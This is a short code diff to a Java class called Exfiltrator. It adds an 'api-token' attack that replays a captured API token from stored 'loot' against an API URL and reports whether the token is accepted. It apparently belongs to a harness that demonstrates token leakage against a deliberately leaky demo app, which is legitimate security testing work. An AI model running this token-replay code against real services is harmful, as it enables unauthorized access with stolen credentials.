@@ -63,6 +63,11 @@ public final class Exfiltrator {
       case "proof":
         replay(read(loot, "captured-call"), read(loot, "captured-proof"));
         break;
+      case "api-token":
+        int status = LeakyToolApp.get(URI.create(read(loot, "api-url")), read(loot, "api-token"));
+        System.out.println(status == 200 ? "ACCEPTED api token" : "REFUSED " + status
+            + " inactive (resource server)");
+        break;
       default:
         throw new IllegalArgumentException("unknown attack " + attack);
     }
@@ -172,6 +177,6 @@ public final class Exfiltrator {
   private Exfiltrator() {}
 
   static List<String> attacks() {
-    return List.of("proof", "grant", "task", "turn", "call");
+    return List.of("proof", "grant", "task", "turn", "call", "api-token");
   }
 }
